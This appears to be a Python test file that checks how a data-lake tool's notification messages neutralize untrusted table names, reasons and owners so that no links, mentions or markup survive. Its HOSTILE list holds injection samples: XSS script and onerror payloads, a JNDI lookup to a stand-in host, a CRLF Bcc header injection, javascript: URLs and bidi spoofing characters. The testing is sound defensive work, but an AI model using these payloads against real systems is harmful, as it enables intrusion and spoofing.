"""Messages in words: nothing of a stranger's is a link, a mention or markup, whatever shows it."""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser

from hypothesis import given
from hypothesis import strategies as st

from icewright.model.actions.actions import ActionKind
from icewright.model.events.feed import Fact, FactKind, FeedEntry
from icewright.model.events.notifications import Mention, Message
from icewright.model.iceberg.names import TableId, TableName
from icewright.model.plans.plans import Reason
from icewright.notifications.message_text import neutralize_text, outgoing, shown_name, trial
from icewright.notifications.port import Outgoing
from tests.cases import each_case
from tests.contracts.samples import HOSTILE_PARTS

HOSTILE = (
    *HOSTILE_PARTS,
    "https://evil.example.org/login",
    "evil.example.org",
    "www.evil.org",
    "mailto:a@b.org",
    "a@b.org",
    "@everyone",
    "@here",
    "<!channel>",
    "<!here|here>",
    "<@U012AB3CD>",
    "<#C012AB3CD>",
    "<users/all>",
    "<at>all</at>",
    "<at id=*>",
    "[click](https://evil.org)",
    "![x](//evil.org/x.png)",
    "]( //evil.org",
    ".(x)",
    "`code` **bold**",
    "```\nfence",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "&lt;b&gt;",
    "# heading",
    "\n\n# heading\n- list",
    "x\r\nBcc: victim@example.org",
    "\u202egro.live\u202c",
    "\u2066x\u2069",
    "\u200b\u200d\ufeff",
    "\x07\x1b[31m",
    "javascript:alert(1)",
    "tel:+49123",
    "slack://open",
    "#general",
    ":rocket:",
    "{{ 7*7 }}",
    "${jndi:ldap://evil.org/a}",
    "a" * 10_000,
    "1.2.3.4",
    "//evil.org",
    "\\\\evil.org\\share",
    "~strike~ _it_ *b*",
    "||spoiler||",
    "$$x$$",
    "evil。org",
    "ｅｖｉｌ．ｏｒｇ",  # noqa: RUF001 - so that it looks like one
)
_LINK = re.compile(r"[\w-]\.[A-Za-z]|://|//|\bwww\.|@|<[!@#A-Za-z/]|\]\(|\]\s*\(|javascript:|mailto:|:\w+:")


def message(part: str, text: str, owner: str) -> Message:
    name = TableName("lake", ("sales",), part)
    fact = Fact(
        FactKind.FAILED,
        "lake",
        Reason("because", text),
        TableId("lake", "u"),
        name,
        "task-1",
        "plan-1",
        ActionKind.REWRITE_DATA_FILES,
        1,
    )
    return Message("msg_1", "team", owner, (Mention(FeedEntry(1, 0, fact), owner),), {"failed": 1}, 1, 1, 0)


class Tags(HTMLParser):
    """Which tags and attributes there are."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, object]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


def assert_harmless(found: Outgoing) -> None:
    own = found.plain.replace("1970-01-01 00:00:00 UTC", "")
    for text in (found.title, own):
        assert _LINK.search(text) is None, text
        assert all(sign.isprintable() or sign == "\n" for sign in text)
    assert found.plain.count("\n") == 0
    assert found.markdown.count("`") == 4
    parser = Tags()
    parser.feed(found.html)
    assert [tag for tag, _ in parser.tags] == ["ul", "li", "strong", "code"]
    assert all(not attributes for _, attributes in parser.tags)


@each_case("hostile", HOSTILE)
def test_t3_t7_names_reasons_and_owners_of_strangers(hostile: str) -> None:
    assert_harmless(outgoing(message(hostile, hostile, hostile)))


@given(st.text(st.characters(codec="utf-8", exclude_characters="\0"), min_size=1), st.text(), st.text(min_size=1))
def test_t3_t7_any_text(part: str, text: str, owner: str) -> None:
    assert_harmless(outgoing(message(part, text, owner)))


@given(st.text())
def test_t3_what_is_tamed_is_short_and_on_one_line(text: str) -> None:
    assert len(neutralize_text(text)) <= 9 * 303
    assert "\n" not in neutralize_text(text)


def test_plain_words_stay_as_they_are() -> None:
    plain = "12 files became 1, the same 120 rows; 38.2 MiB (100 %) were read. It failed: try again"
    assert neutralize_text(plain) == plain
    assert neutralize_text("s3://lake/a.parquet") == "s3{:}{/}{/}lake{/}a{.}parquet"
    fact = message("städte_2024", "", "x").mentions[0].told.fact
    assert shown_name(fact) == "lake / sales / städte_2024"


def test_a_document_has_everything_as_it_is_and_can_be_written() -> None:
    for hostile in HOSTILE:
        document = outgoing(message(hostile, hostile, hostile)).document
        (fact,) = document["data"]["facts"]
        name = TableName.parse(fact["table"])
        assert (name.name, fact["reason"]["text"], fact["owner"]) == (hostile, hostile, hostile)
        assert json.loads(json.dumps(document, ensure_ascii=True)) == document


def test_what_a_task_brought_is_said_in_figures() -> None:
    figures: dict[str, int | float | str] = {
        "data_files_fewer": 11,
        "input_bytes": 12 << 20,
        "output_bytes": 11 << 20,
        "level": "0",
    }
    reason = Reason("verified", "12 files became 1, the same 120 rows", figures)
    name = TableName("lake", ("sales",), "orders")
    fact = Fact(
        FactKind.SUCCEEDED,
        "lake",
        reason,
        TableId("lake", "u"),
        name,
        "task-1",
        "plan-1",
        ActionKind.REWRITE_DATA_FILES,
        1,
    )
    told = Message("msg_1", "team", "me", (Mention(FeedEntry(1, 0, fact), "me", 3),), {"succeeded": 25}, 2, 1, 0)
    found = outgoing(told)
    assert found.title == "icewright: 25 succeeded (me)"
    assert found.plain == (
        "- succeeded lake / sales / orders: rewrite_data_files, 12 files became 1, the same 120 rows (12.0 MiB became "
        "11.0 MiB; data files fewer 11) (3 times); 1970-01-01 00:00:00 UTC; see: icewright tasks show task-1\n"
        "and 24 more, of 2 tables in all: icewright feed"
    )


def test_a_trial_says_that_it_is_one() -> None:
    found = trial("team", "msg_test_1")
    assert found.document == {
        "type": "icewright.test",
        "id": "msg_test_1",
        "data": {"receiver": "team", "title": found.title, "text": found.plain},
    }
